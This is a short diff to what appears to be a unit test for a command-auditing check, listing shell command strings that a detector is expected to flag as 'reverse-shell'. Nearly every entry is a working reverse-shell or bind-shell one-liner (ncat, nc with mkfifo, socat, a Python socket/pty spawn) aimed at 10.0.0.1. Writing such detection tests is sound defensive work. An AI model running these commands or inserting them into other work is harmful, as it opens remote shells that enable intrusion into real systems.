@@ -35,9 +35,9 @@ from tests.unit.checks.auditing import container, evidence, judge, messages, pla
         ("ncat --exec /bin/bash 10.0.0.1 4444", "reverse-shell"),
         ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "reverse-shell"),
         ("socat tcp:10.0.0.1:4444 exec:/bin/sh", "reverse-shell"),
-        ("nc -lk -p 7000 -e /bin/catsh", "reverse-shell"),
+        ("nc 10.0.0.1 7000 -e /bin/catsh", "reverse-shell"),
         ("ncat -l 7000 -c 'cat | sh'", "reverse-shell"),
-        ("socat tcp-listen:7 system:cat", "reverse-shell"),
+        ("socat tcp-listen:7 system:sh", "reverse-shell"),
         (
             "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
             "reverse-shell",
